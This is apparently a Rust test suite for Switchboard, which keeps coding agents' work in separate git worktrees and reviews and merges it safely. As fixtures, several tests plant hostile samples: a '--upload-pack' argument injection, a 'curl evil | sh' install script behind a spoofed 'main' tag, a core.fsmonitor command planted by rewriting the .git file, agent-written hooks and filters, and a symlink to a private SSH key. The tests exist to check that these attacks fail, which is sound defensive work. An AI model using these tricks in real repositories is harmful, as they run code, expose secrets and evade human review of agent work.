//! Started agents' worktrees on real git repositories: made, reviewed,
//! merged (or refused with nothing changed), discarded (or refused while
//! work would be lost), and found to belong to their main workspace.

use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
};

use switchboard_model::{ErrorCode, agent::launch::FileChange};
use switchboard_store::{StoreError, Workspace, worktrees};

/// git in `dir`, which must succeed; its output.
fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_AUTHOR_NAME", "Dev")
        .env("GIT_AUTHOR_EMAIL", "dev@example.com")
        .env("GIT_COMMITTER_NAME", "Dev")
        .env("GIT_COMMITTER_EMAIL", "dev@example.com")
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

/// A repository on `main` with one commit of `README.md` and `src/lib.rs`,
/// and an identity for the commits Switchboard makes.
fn repository() -> (tempfile::TempDir, Workspace) {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().canonicalize().unwrap();
    git(&root, &["init", "-q", "-b", "main"]);
    git(&root, &["config", "user.name", "Dev"]);
    git(&root, &["config", "user.email", "dev@example.com"]);
    fs::create_dir_all(root.join("src")).unwrap();
    fs::write(root.join("README.md"), "# Project\n").unwrap();
    fs::write(root.join("src/lib.rs"), "pub fn one() -> u8 {\n    1\n}\n").unwrap();
    git(&root, &["add", "."]);
    git(&root, &["commit", "-q", "-m", "First"]);
    let workspace = Workspace::open(&root).unwrap();
    (dir, workspace)
}

fn place(workspace: &Workspace, name: &str) -> PathBuf {
    workspace.root().join(".claude/worktrees").join(name)
}

#[test]
fn a_worktree_is_made_on_its_own_branch_and_its_changes_are_reviewed() {
    let (_dir, workspace) = repository();
    let tree = worktrees::create(&workspace, "fix", &place(&workspace, "fix"), None).unwrap();
    assert_eq!(tree.branch, "switchboard/fix");
    assert_eq!(tree.base, "main");
    assert_eq!(
        tree.base_commit,
        git(workspace.root(), &["rev-parse", "main"]).trim()
    );
    let wt = Path::new(&tree.path);
    assert_eq!(
        git(wt, &["branch", "--show-current"]).trim(),
        "switchboard/fix"
    );
    // Calls made inside it belong to the main workspace.
    fs::create_dir_all(wt.join("src/deep")).unwrap();
    assert_eq!(
        Workspace::belonging(&wt.join("src/deep")).unwrap().root(),
        workspace.root()
    );
    assert_eq!(
        Workspace::belonging(workspace.root()).unwrap().root(),
        workspace.root()
    );

    // One commit, one uncommitted change, one new file, one removal.
    fs::write(wt.join("src/lib.rs"), "pub fn one() -> u8 {\n    2\n}\n").unwrap();
    git(wt, &["commit", "-q", "-am", "Two, not one"]);
    fs::write(wt.join("README.md"), "# Project\n\nMore.\n").unwrap();
    fs::write(wt.join("src/new.rs"), "a\nb\n").unwrap();
    git(wt, &["rm", "-q", "--cached", "src/lib.rs"]);
    fs::remove_file(wt.join("src/lib.rs")).unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    assert_eq!(changes.commits.len(), 1);
    assert_eq!(changes.commits[0].subject, "Two, not one");
    let files: Vec<(&str, FileChange, Option<u64>, Option<u64>)> = changes
        .files
        .iter()
        .map(|file| (file.path.as_str(), file.change, file.added, file.removed))
        .collect();
    assert_eq!(
        files,
        vec![
            ("README.md", FileChange::Modified, Some(2), Some(0)),
            ("src/lib.rs", FileChange::Deleted, Some(0), Some(3)),
            ("src/new.rs", FileChange::Added, Some(2), Some(0)),
        ]
    );
    assert!(
        changes.files[0].diff.contains("+More."),
        "{:?}",
        changes.files[0]
    );
    assert!(
        changes.files[2]
            .diff
            .starts_with("--- /dev/null\n+++ b/src/new.rs")
    );
    assert_eq!(changes.uncommitted, 3);
}

#[test]
fn a_clean_merge_lands_on_the_checked_out_base_and_uncommitted_work_needs_saying() {
    let (_dir, workspace) = repository();
    let tree = worktrees::create(&workspace, "feat", &place(&workspace, "feat"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join("src/feat.rs"), "pub fn feat() {}\n").unwrap();

    let refused = worktrees::merge(&workspace, &tree, "feat", false).unwrap_err();
    assert_eq!(refused.code(), ErrorCode::InvalidRequest);
    assert!(refused.to_string().contains("uncommitted"), "{refused}");
    assert!(!workspace.root().join("src/feat.rs").exists());

    let commit = worktrees::merge(&workspace, &tree, "feat", true).unwrap();
    assert_eq!(commit, git(workspace.root(), &["rev-parse", "main"]).trim());
    assert!(
        workspace.root().join("src/feat.rs").exists(),
        "the checkout has the work"
    );
    assert_eq!(git(workspace.root(), &["status", "--porcelain"]), "");
    assert_eq!(
        git(workspace.root(), &["log", "-1", "--format=%s"]).trim(),
        "Merge agent feat (switchboard/feat)"
    );
    // Merged: discarding loses nothing and needs no confirmation.
    assert!(worktrees::unmerged_work(&workspace, &tree).is_empty());
    worktrees::discard(&workspace, &tree, false).unwrap();
    assert!(!wt.exists());
    assert!(!git(workspace.root(), &["branch"]).contains("switchboard/feat"));
}

#[test]
fn a_base_not_checked_out_moves_to_the_merge_without_touching_any_checkout() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    git(root, &["branch", "release"]);
    let tree = worktrees::create(
        &workspace,
        "rel",
        &place(&workspace, "rel"),
        Some("release"),
    )
    .unwrap();
    assert_eq!(tree.base, "release");
    let wt = Path::new(&tree.path);
    fs::write(wt.join("CHANGELOG.md"), "1.0\n").unwrap();
    git(wt, &["add", "."]);
    git(wt, &["commit", "-q", "-m", "Changelog"]);
    let main_before = git(root, &["rev-parse", "main"]);

    let commit = worktrees::merge(&workspace, &tree, "rel", false).unwrap();
    assert_eq!(commit, git(root, &["rev-parse", "release"]).trim());
    assert_eq!(git(root, &["rev-parse", "main"]), main_before);
    assert_eq!(
        git(root, &["status", "--porcelain"]),
        "",
        "the checkout is untouched"
    );
    assert_eq!(
        git(root, &["show", "release:CHANGELOG.md"]),
        "1.0\n",
        "the release branch has the work"
    );
}

#[test]
fn a_conflicting_merge_is_refused_with_its_files_and_nothing_changes() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let tree = worktrees::create(&workspace, "clash", &place(&workspace, "clash"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join("src/lib.rs"), "pub fn one() -> u8 {\n    3\n}\n").unwrap();
    git(wt, &["commit", "-q", "-am", "Three"]);
    fs::write(root.join("src/lib.rs"), "pub fn one() -> u8 {\n    4\n}\n").unwrap();
    git(root, &["commit", "-q", "-am", "Four"]);
    let head_before = git(root, &["rev-parse", "HEAD"]);

    let error = worktrees::merge(&workspace, &tree, "clash", false).unwrap_err();
    assert_eq!(error.code(), ErrorCode::Conflict);
    let StoreError::Conflict { files, .. } = &error else {
        panic!("{error:?}")
    };
    assert_eq!(files, &["src/lib.rs".to_owned()]);
    assert_eq!(git(root, &["rev-parse", "HEAD"]), head_before);
    assert_eq!(git(root, &["status", "--porcelain"]), "", "no half-merge");
    assert!(!root.join(".git/MERGE_HEAD").exists());
}

#[test]
fn discarding_unmerged_work_needs_confirming_and_then_removes_worktree_and_branch() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let tree = worktrees::create(&workspace, "spike", &place(&workspace, "spike"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join("idea.txt"), "x\n").unwrap();
    git(wt, &["add", "."]);
    git(wt, &["commit", "-q", "-m", "Idea"]);
    fs::write(wt.join("draft.txt"), "y\n").unwrap();

    let error = worktrees::discard(&workspace, &tree, false).unwrap_err();
    let said = error.to_string();
    assert!(
        said.contains("1 file(s) with uncommitted changes")
            && said.contains("1 commit(s) not merged into main"),
        "{said}"
    );
    assert!(wt.join("draft.txt").exists(), "nothing removed");
    worktrees::discard(&workspace, &tree, true).unwrap();
    assert!(!wt.exists());
    assert!(!git(root, &["branch"]).contains("switchboard/spike"));
}

#[test]
fn a_worktree_is_refused_outside_git_for_a_bad_base_and_a_taken_branch() {
    let plain = tempfile::tempdir().unwrap();
    let workspace = Workspace::open(plain.path()).unwrap();
    let error = worktrees::create(&workspace, "a", &workspace.root().join("wt"), None).unwrap_err();
    assert!(
        error.to_string().contains("not a git repository"),
        "{error}"
    );

    let (_dir, workspace) = repository();
    for base in ["--upload-pack=touch /tmp/x", "no-such-branch"] {
        let error =
            worktrees::create(&workspace, "b", &place(&workspace, "b"), Some(base)).unwrap_err();
        assert_eq!(error.code(), ErrorCode::InvalidRequest, "{base}: {error}");
    }
    git(workspace.root(), &["branch", "switchboard/taken"]);
    let error =
        worktrees::create(&workspace, "taken", &place(&workspace, "taken"), None).unwrap_err();
    assert!(error.to_string().contains("already exists"), "{error}");
    let error = worktrees::create(&workspace, "../up", &place(&workspace, "up"), None).unwrap_err();
    assert_eq!(error.code(), ErrorCode::InvalidRequest);
}

#[test]
fn a_tag_named_as_the_base_branch_never_stands_in_for_it() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    // A commit nobody reviewed, tagged `main` (a fetched tag can be).
    git(root, &["checkout", "-q", "-b", "evil"]);
    fs::write(root.join("install.sh"), "curl evil | sh\n").unwrap();
    git(root, &["add", "."]);
    git(root, &["commit", "-q", "-m", "Evil"]);
    git(root, &["tag", "main"]);
    git(root, &["checkout", "-q", "main"]);
    git(root, &["branch", "-q", "-D", "evil"]);
    for base in [Some("main"), None] {
        let name = if base.is_some() { "named" } else { "default" };
        let tree = worktrees::create(&workspace, name, &place(&workspace, name), base).unwrap();
        assert_eq!(tree.base, "main");
        assert_eq!(
            tree.base_commit,
            git(root, &["rev-parse", "refs/heads/main"]).trim(),
            "the branch, not the tag"
        );
        assert!(!Path::new(&tree.path).join("install.sh").exists());
    }
}

#[test]
fn a_base_being_rebased_is_not_moved_underneath() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let tree = worktrees::create(&workspace, "r", &place(&workspace, "r"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join("new.txt"), "x\n").unwrap();
    git(wt, &["add", "."]);
    git(wt, &["commit", "-q", "-m", "New"]);
    // main is mid-rebase onto `side`, stopped on a conflict.
    git(root, &["checkout", "-q", "-b", "side"]);
    fs::write(root.join("README.md"), "# Side\n").unwrap();
    git(root, &["commit", "-q", "-am", "Side"]);
    git(root, &["checkout", "-q", "main"]);
    fs::write(root.join("README.md"), "# Main\n").unwrap();
    git(root, &["commit", "-q", "-am", "Main"]);
    let before = git(root, &["rev-parse", "refs/heads/main"]);
    let rebase = Command::new("git")
        .arg("-C")
        .arg(root)
        .args(["rebase", "side"])
        .output()
        .unwrap();
    assert!(!rebase.status.success(), "the rebase stops on its conflict");
    let error = worktrees::merge(&workspace, &tree, "r", false).unwrap_err();
    assert!(error.to_string().contains("being rebased"), "{error}");
    assert_eq!(git(root, &["rev-parse", "refs/heads/main"]), before);
}

#[test]
fn a_worktree_never_lands_through_a_link_and_a_failed_one_leaves_no_branch() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let outside = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(outside.path(), root.join(".claude")).unwrap();
    let error = worktrees::create(&workspace, "out", &place(&workspace, "out"), None).unwrap_err();
    assert_eq!(error.code(), ErrorCode::OutsideWorkspace, "{error}");
    assert_eq!(
        fs::read_dir(outside.path()).unwrap().count(),
        0,
        "nothing made outside"
    );
    assert!(!git(root, &["branch"]).contains("switchboard/out"));
    fs::remove_file(root.join(".claude")).unwrap();

    // A dangling link where the worktree would go: refused, no branch.
    fs::create_dir_all(root.join(".claude/worktrees")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/x", place(&workspace, "dangling")).unwrap();
    assert!(
        worktrees::create(&workspace, "dangling", &place(&workspace, "dangling"), None).is_err()
    );
    assert!(!git(root, &["branch"]).contains("switchboard/dangling"));
}

#[test]
fn an_agent_that_rewrites_its_worktrees_git_file_runs_nothing_through_it() {
    let (_dir, workspace) = repository();
    let tree = worktrees::create(&workspace, "sly", &place(&workspace, "sly"), None).unwrap();
    let wt = Path::new(&tree.path);
    // With only file writes, the agent points its `.git` at a repository
    // of its own whose configuration runs a program on `git status`.
    let decoy = wt.join(".decoy");
    git(wt, &["init", "-q", &decoy.display().to_string()]);
    let pwned = wt.join("PWNED");
    git(
        &decoy,
        &[
            "config",
            "core.fsmonitor",
            &format!("touch {}; echo", pwned.display()),
        ],
    );
    fs::write(
        wt.join(".git"),
        format!("gitdir: {}\n", decoy.join(".git").display()),
    )
    .unwrap();
    fs::write(wt.join("work.txt"), "mine\n").unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    assert!(changes.files.iter().any(|file| file.path == "work.txt"));
    assert!(!worktrees::unmerged_work(&workspace, &tree).is_empty());
    let _ = worktrees::merge(&workspace, &tree, "sly", true);
    assert!(!pwned.exists(), "git ran the agent's configuration");
}

/// Makes `path` an executable script that creates `marker` when it runs.
fn marking_script(path: &Path, marker: &Path) {
    use std::os::unix::fs::PermissionsExt;
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn hooks_an_agent_writes_never_run_on_its_review_or_its_merge() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let hooks = [
        "post-index-change",
        "pre-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-commit",
        "reference-transaction",
        "pre-merge-commit",
        "post-merge",
    ];
    // husky's way: hooks committed in the repository, and a hooks folder
    // relative to wherever git runs. The developer's own hooks do not run
    // on the agent's work either.
    for hook in hooks {
        marking_script(
            &root.join(".husky/_").join(hook),
            &root.join("DEV-HOOK-RAN"),
        );
    }
    git(root, &["add", ".husky"]);
    git(root, &["commit", "-q", "--no-verify", "-m", "husky"]);
    git(root, &["config", "core.hooksPath", ".husky/_"]);
    let tree = worktrees::create(&workspace, "hooky", &place(&workspace, "hooky"), None).unwrap();
    let wt = Path::new(&tree.path);
    let ran = wt.join("HOOK-RAN");
    for hook in hooks {
        marking_script(&wt.join(".husky/_").join(hook), &ran);
    }
    fs::write(wt.join("src/lib.rs"), "pub fn one() -> u8 {\n    5\n}\n").unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    assert!(changes.files.iter().any(|file| file.path == "src/lib.rs"));
    assert!(!ran.exists(), "reading the review ran the agent's hook");
    worktrees::merge(&workspace, &tree, "hooky", true).unwrap();
    assert!(
        !ran.exists(),
        "merging (its work committed first) ran the agent's hook"
    );
    assert!(
        !root.join("DEV-HOOK-RAN").exists(),
        "merging ran the repository's hook"
    );
    assert!(
        fs::read_to_string(root.join("src/lib.rs"))
            .unwrap()
            .contains('5'),
        "the work was merged"
    );
}

#[test]
fn attributes_an_agent_writes_route_no_file_through_a_filter() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    let ran = root.join("FILTER-RAN");
    // A filter of the developer's (git-lfs is one), which the agent's
    // attributes would send every file through.
    let filter = root.join(".git/filter.sh");
    {
        use std::os::unix::fs::PermissionsExt;
        fs::write(
            &filter,
            format!("#!/bin/sh\ntouch '{}'\ncat\n", ran.display()),
        )
        .unwrap();
        fs::set_permissions(&filter, fs::Permissions::from_mode(0o755)).unwrap();
    }
    git(
        root,
        &["config", "filter.tidy.clean", &filter.display().to_string()],
    );
    git(root, &["config", "filter.tidy.smudge", "cat"]);
    let tree = worktrees::create(&workspace, "attr", &place(&workspace, "attr"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join(".gitattributes"), "* filter=tidy\n").unwrap();
    fs::write(wt.join("src/lib.rs"), "pub fn one() -> u8 {\n    6\n}\n").unwrap();
    fs::write(wt.join("new.txt"), "new\n").unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    assert!(
        changes
            .files
            .iter()
            .any(|file| file.path == ".gitattributes")
    );
    assert!(
        !ran.exists(),
        "the review ran a filter the agent's attributes chose"
    );
    worktrees::merge(&workspace, &tree, "attr", true).unwrap();
    assert!(
        !ran.exists(),
        "the merge ran a filter the agent's attributes chose"
    );
}

#[test]
fn a_merge_never_replaces_a_file_git_does_not_track_and_the_review_says_so() {
    let (_dir, workspace) = repository();
    let root = workspace.root();
    fs::write(root.join(".gitignore"), ".env\n").unwrap();
    git(root, &["add", ".gitignore"]);
    git(root, &["commit", "-q", "-m", "Ignore .env"]);
    fs::write(root.join(".env"), "API_KEY=the-developers-own\n").unwrap();
    fs::write(root.join("notes.md"), "my notes\n").unwrap();
    let tree = worktrees::create(&workspace, "env", &place(&workspace, "env"), None).unwrap();
    let wt = Path::new(&tree.path);
    fs::write(wt.join(".env"), "API_KEY=the-agents\n").unwrap();
    git(wt, &["add", "-f", ".env"]);
    fs::write(wt.join("notes.md"), "the agent's notes\n").unwrap();
    fs::write(wt.join("fresh.md"), "new\n").unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    let flagged: Vec<&str> = changes
        .files
        .iter()
        .filter(|file| file.replaces_untracked)
        .map(|file| file.path.as_str())
        .collect();
    assert_eq!(flagged, [".env", "notes.md"], "{:?}", changes.files);

    let refused = worktrees::merge(&workspace, &tree, "env", true).unwrap_err();
    assert_eq!(refused.code(), ErrorCode::Conflict);
    let said = refused.to_string();
    assert!(said.contains(".env") && said.contains("notes.md"), "{said}");
    assert_eq!(
        fs::read_to_string(root.join(".env")).unwrap(),
        "API_KEY=the-developers-own\n",
        "the developer's ignored file is theirs"
    );
    assert_eq!(
        fs::read_to_string(root.join("notes.md")).unwrap(),
        "my notes\n"
    );
    assert!(!root.join("fresh.md").exists(), "nothing was merged");

    // Moved away, the merge goes through.
    fs::remove_file(root.join(".env")).unwrap();
    fs::remove_file(root.join("notes.md")).unwrap();
    worktrees::merge(&workspace, &tree, "env", true).unwrap();
    assert!(root.join("fresh.md").exists());
}

#[test]
fn the_review_reads_no_file_a_link_leads_to() {
    let (dir, workspace) = repository();
    let secret = dir.path().join("id_ed25519");
    fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n").unwrap();
    let tree = worktrees::create(&workspace, "peek", &place(&workspace, "peek"), None).unwrap();
    let wt = Path::new(&tree.path);
    std::os::unix::fs::symlink(&secret, wt.join("notes.txt")).unwrap();
    fs::create_dir_all(wt.join("docs")).unwrap();
    std::os::unix::fs::symlink(dir.path(), wt.join("docs/up")).unwrap();
    fs::write(wt.join("plain.txt"), "plain\n").unwrap();

    let changes = worktrees::changes(&workspace, &tree).unwrap();
    let all: String = changes.files.iter().map(|file| file.diff.clone()).collect();
    assert!(!all.contains("PRIVATE KEY"), "{all}");
    assert!(all.contains("+plain"), "a plain new file is shown: {all}");
    assert!(
        changes.files.iter().any(|file| file.path == "notes.txt"),
        "the link is listed as a change"
    );
}
